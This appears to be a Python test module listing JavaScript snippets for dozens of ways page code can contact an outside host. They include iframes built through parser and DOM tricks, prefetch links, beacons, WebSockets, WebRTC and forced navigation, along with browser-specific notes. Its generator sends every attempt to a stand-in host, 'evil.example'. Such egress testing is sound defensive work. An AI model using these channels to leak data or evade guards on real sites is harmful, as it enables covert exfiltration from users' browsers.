"""Ways by which code in a document could speak to another host, which is in `address`."""

from __future__ import annotations

from collections.abc import Mapping

_FRAME = "<iframe src='${address}'></iframe>"
_XHTML = "'http://www.w3.org/1999/xhtml'"


def _link(rel: str, more: str = "") -> str:
    return f"add('link', {{ rel: '{rel}', href: address{more} }})"


SILENT: Mapping[str, str] = {
    # Frames, by every way to make one.
    "iframe": "add('iframe', { src: address })",
    "iframe-namespace": f"""const made = document.createElementNS({_XHTML}, 'iframe');
        made.setAttribute('src', address);
        document.body.append(made)""",
    "iframe-prefix": f"""const made = document.createElementNS({_XHTML}, 'h:iframe');
        made.setAttribute('src', address);
        document.body.append(made)""",
    "iframe-changing-name": """let asked = 0;
        const name = { toString: () => (asked++ ? 'iframe' : 'div') };
        for (let turn = 0; turn < 3; turn += 1) add(name, { src: address })""",
    "iframe-inner": f"add('div', {{ innerHTML: `{_FRAME}` }})",
    "iframe-outer": f"add('div', {{}}).outerHTML = `{_FRAME}`",
    "iframe-adjacent": f"document.body.insertAdjacentHTML('beforeend', `{_FRAME}`)",
    "iframe-unsafe": f"add('div', {{}}).setHTMLUnsafe(`{_FRAME}`)",
    "iframe-parsed": f"document.body.append(Document.parseHTMLUnsafe(`{_FRAME}`).body.firstChild)",
    "iframe-fragment": f"""document.body.append(
        document.createRange().createContextualFragment(`{_FRAME}`))""",
    "iframe-parser": f"""document.body.append(
        new DOMParser().parseFromString(`{_FRAME}`, 'text/html').body.firstChild)""",
    "iframe-xml": f"""document.body.append(new DOMParser().parseFromString(
        `<h:iframe xmlns:h=${{ {_XHTML}.replace(/.*/, '"$&"') }} src='${{address}}'/>`,
        'text/xml').documentElement)""",
    "iframe-entity": f"""document.body.append(new DOMParser().parseFromString(
        `<!DOCTYPE p [<!ENTITY e "&#60;iframe src='${{address}}'/>">]>` +
        `<p xmlns=${{ {_XHTML}.replace(/.*/, '"$&"') }}>&e;</p>`, 'text/xml').documentElement)""",
    "iframe-document": f"""const made = document.implementation
          .createDocument({_XHTML}, 'iframe').documentElement;
        made.setAttribute('src', address);
        document.body.append(made)""",
    "iframe-other-document": """const made =
          document.implementation.createHTMLDocument('').createElement('iframe');
        made.src = address;
        document.body.append(made)""",
    "iframe-template": f"""const template = document.createElement('template');
        template.innerHTML = `{_FRAME}`;
        document.body.append(template.content.cloneNode(true))""",
    "iframe-shadow": f"""add('div', {{}}).attachShadow({{ mode: 'open' }}).innerHTML =
        `{_FRAME}`""",
    "iframe-class": """class Made extends HTMLIFrameElement {}
        customElements.define('made-frame', Made, { extends: 'iframe' });
        const made = new Made();
        made.src = address;
        document.body.append(made)""",
    "iframe-command": f"""const room = add('div', {{ contentEditable: 'true', textContent: 'x' }});
        room.focus();
        getSelection().selectAllChildren(room);
        document.execCommand('insertHTML', false, `{_FRAME}`)""",
    "iframe-srcdoc": f"add('iframe', {{ srcdoc: `{_FRAME}` }})",
    "iframe-script": "add('iframe', { src: `javascript:location='${address}'` })",
    "iframe-blank": "add('iframe', {}).contentWindow.location = address",
    "iframe-late-prototype": """String.prototype[6] = 'x';
        try { add('iframe', { src: address }) } finally { delete String.prototype[6]; }""",
    "object": "add('object', { data: address })",
    "embed": "add('embed', { src: address })",
    # What is connected to or loaded ahead.
    "preconnect": _link("preconnect"),
    "preconnect-late": "add('link', { rel: 'preconnect' }).setAttribute('href', address)",
    "preconnect-upper": "add('link', { rel: 'preconnect' }).setAttribute('HREF', address)",
    "preconnect-namespace": """add('link', { rel: 'preconnect' })
        .setAttributeNS(null, 'href', address)""",
    "preconnect-node": """const attribute = document.createAttribute('href');
        attribute.value = address;
        add('link', { rel: 'preconnect' }).setAttributeNode(attribute)""",
    "preconnect-value": """const link = add('link', { rel: 'preconnect', href: '/assets/x' });
        link.attributes.href.value = address""",
    "preconnect-text": """const link = add('link', { rel: 'preconnect', href: '/assets/x' });
        link.attributes.href.textContent = address""",
    "preconnect-markup": "add('div', { innerHTML: `<link rel=preconnect href='${address}'>` })",
    "preconnect-safe": """add('div', {}).setHTML(`<link rel=preconnect href='${address}'>`,
        { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } })""",
    "preconnect-clone": """const link = document.createElement('link').cloneNode();
        document.head.append(Object.assign(link, { rel: 'preconnect', href: address }))""",
    "look-up": _link("dns-prefetch"),
    "prefetch": _link("prefetch"),
    "modulepreload": _link("modulepreload"),
    "preload": _link("preload", ", as: 'fetch'"),
    "preload-picture": _link("preload", ", as: 'image'"),
    "stylesheet": _link("stylesheet"),
    "dictionary": _link("compression-dictionary"),
    # What pictures, styles, fonts and media load.
    "picture": "new Image().src = address",
    "picture-set": "add('img', { srcset: `${address} 1x` })",
    "poster": "add('video', { poster: address, src: address }).load()",
    "sound": "new Audio(address).play().catch(() => {})",
    "style-import": "add('style', { textContent: `@import '${address}';` })",
    "style-background": "document.body.style.backgroundImage = `url(${address})`",
    "style-font": "new FontFace('made', `url(${address})`).load().catch(() => {})",
    "svg": """add('div', { innerHTML: `<svg><image href='${address}'/>
        <filter id=f><feImage href='${address}'/></filter></svg>` })""",
    # What scripts ask for.
    "fetch": "fetch(address).catch(() => {})",
    "fetch-kept": "fetch(address, { mode: 'no-cors', keepalive: true }).catch(() => {})",
    "fetch-later": "fetchLater(address, { activateAfter: 0 })",
    "request": "const asked = new XMLHttpRequest(); asked.open('GET', address); asked.send()",
    "socket": "new WebSocket(address.replace('https', 'wss'))",
    "events": "new EventSource(address)",
    "beacon": "navigator.sendBeacon(address, 'x')",
    "script": "add('script', { src: address })",
    "import": "import(address).catch(() => {})",
    "worker": """new Worker(URL.createObjectURL(
        new Blob([`fetch('${address}').catch(() => {})`])))""",
    "worklet": "new AudioContext().audioWorklet.addModule(address).catch(() => {})",
    "datagram": """const transport = new WebTransport(address);
        for (const end of [transport.ready, transport.closed]) end.catch(() => {})""",
    "call": """const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stranger}` }] });
        call.createDataChannel('x');
        await call.setLocalDescription(await call.createOffer())""",
    "call-by-name": """const caller = new RTCPeerConnection({
          iceServers: [{ urls: `stun:${new URL(address).host}` }] });
        caller.createDataChannel('x');
        await caller.setLocalDescription(await caller.createOffer())""",
    "anchor-shown": "add('a', { href: address, textContent: 'Here' })",
    "picture-button": "add('input', { type: 'image', src: address })",
    "script-svg": """const svg = 'http://www.w3.org/2000/svg';
        const script = document.createElementNS(svg, 'script');
        script.setAttribute('href', address);
        document.body.append(script)""",
    "style-constructed": """const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body { background: url(${address}) }`);
        document.adoptedStyleSheets = [sheet]""",
    "style-instruction": """document.insertBefore(
        document.createProcessingInstruction('xml-stylesheet', `href='${address}' type='text/css'`),
        document.documentElement)""",
    "stylesheet-xsl": """const sheet = new DOMParser().parseFromString(
          `<x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'>
          <x:import href='${address}'/></x:stylesheet>`, 'text/xml');
        new XSLTProcessor().importStylesheet(sheet)""",
    "ping": """const link = add('a', { href: '#here', ping: address });
        link.click()""",
    # Succeeding, it ends its document, and what that has begun: so it comes last, and late.
    "iframe-written": f"""await new Promise((tick) => setTimeout(tick, 1500));
        document.write(`{_FRAME}`)""",
}
"""What nobody sees, as often as the code likes."""

LEADING_AWAY: Mapping[str, str] = {
    "location": "location.href = address",
    "location-replace": "location.replace(address)",
    "location-document": "document.location = address",
    "open": "open(address, '_self')",
    "navigation": "navigation.navigate(address)",
    "anchor": """add('a', { href: address }).click()""",
    "anchor-stopped": """const link = add('a', { href: address });
        link.addEventListener('click', (event) => event.stopImmediatePropagation());
        link.click()""",
    "area": """add('area', { href: address }).click()""",
    "refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${address}` })",
    "refresh-markup": """document.head.innerHTML =
        `<meta http-equiv="refresh" content="0;url=${address}">`""",
    "form": "add('form', { action: address }).submit()",
    "form-post": "add('form', { action: address, method: 'post' }).submit()",
    "form-request": "add('form', { action: address }).requestSubmit()",
    "form-button": """const form = add('form', {});
        form.innerHTML = `<button formaction='${address}'>Go</button>`;
        form.firstChild.click()""",
}
"""What replaces the document it is in, and so happens once."""

UNBREAKABLE = frozenset(
    {"location", "location-replace", "location-document", "open", "navigation", "anchor-stopped"}
)
"""Those no script can close: without headers, Chromium connects before it refuses."""

NOT_ITS_OWN = "a frame in a document without an origin is another stranger to it"
UNKNOWN: Mapping[str, Mapping[str, str]] = {
    "Chromium": {
        "anchor-shown": "in a frame without an origin it looks up no hosts of links",
        "call-by-name": "its log has no look-ups of calls; one by address is heard",
        "stylesheet-xsl": "it loads no stylesheets for XML from elsewhere",
    },
    "Firefox": {
        "call": "it calls no loopback address; by its name a host is looked up",
        "fetch-later": "it has no fetchLater",
        "iframe-script": NOT_ITS_OWN,
        "ping": "links tell nobody of it, by default",
    },
    "WebKit": {
        "anchor-shown": "WebKitGTK looks up no name before it connects",
        "call": "Debian builds it without calls",
        "call-by-name": "Debian builds it without calls",
        "datagram": "WebTransport is no part of it",
        "dictionary": "it has no dictionaries for compression",
        "fetch-later": "it has no fetchLater",
        "iframe-class": "its elements cannot be extended",
        "iframe-script": NOT_ITS_OWN,
        "look-up": "WebKitGTK looks up no name before it connects",
        "preconnect-safe": "it has no setHTML",
        "stylesheet-xsl": "it does not load what stylesheets for XML import",
    },
}
"""Ways by which nobody hears a browser even where nothing guards it, and why."""

UNGUARDED = "/frames/unguarded/"
PUT_FRAME = """async ([address, script]) => {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts allow-forms');
  const loaded = new Promise((done) => { frame.onload = done; });
  frame.src = address;
  document.body.append(frame);
  await loaded;
  frame.contentWindow.postMessage(script, '*');
}"""
"""Opens a frame whose document runs what it is sent, and sends it a script."""


def write_attempts(attempts: Mapping[str, str], stranger: str) -> str:
    """A script with a function that tries them one after the other."""
    port = stranger.rpartition(":")[2]
    tries = ",\n".join(
        f"  '{name}': async (address) => {{ {way} }}" for name, way in attempts.items()
    )
    return f"""
const stranger = '{stranger}';
const add = (name, properties) => {{
  const made = Object.assign(document.createElement(name), properties);
  document.body.append(made);
  return made;
}};
const tries = {{
{tries}
}};
const tryAll = async () => {{
  for (const [name, attempt] of Object.entries(tries)) {{
    try {{
      await attempt(`https://${{name}}.evil.example:{port}/typed`);
    }} catch {{}}
  }}
  // What was asked for is on its way.
  await new Promise((tick) => setTimeout(tick, 1500));
}};
"""
